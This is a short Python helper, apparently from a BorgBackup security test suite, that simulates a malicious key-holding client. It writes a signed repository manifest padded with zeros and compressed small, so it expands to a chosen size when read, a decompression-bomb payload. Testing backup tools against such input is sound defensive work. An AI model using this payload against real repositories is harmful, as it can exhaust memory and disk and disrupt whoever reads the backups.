"""What a client with its vault's key can write to harm whoever reads the vault."""

from __future__ import annotations

import subprocess
from pathlib import Path

#: Borg's own parts, as a program of the client's could use them: signed as it should be, small in the vault.
PROGRAM = """
import sys
from borg.compress import CompressionSpec
from borg.helpers import Manifest
from borg.logger import setup_logging
from borg.repository import Repository
setup_logging()
with Repository(sys.argv[1], exclusive=True) as repository:
    manifest, key = Manifest.load(repository, Manifest.NO_OPERATION_CHECK)
    key.compressor = CompressionSpec("lzma,0").compressor
    manifest.config[b"x"] = b"\\0" * int(sys.argv[2])
    manifest.write()
    repository.commit(compact=False)
"""


def write_manifest(vault: Path, passphrase: str, size: int, user: int) -> None:
    """Give a vault a list of archives that is unpacked to so many bytes."""
    subprocess.run(
        ["/usr/bin/python3", "-c", PROGRAM, str(vault), str(size)], check=True, user=user, extra_groups=[],
        env={"BORG_PASSPHRASE": passphrase, "BORG_RELOCATED_REPO_ACCESS_IS_OK": "yes",
             "BORG_BASE_DIR": str(vault.parent / "intruder")},
    )  # fmt: skip
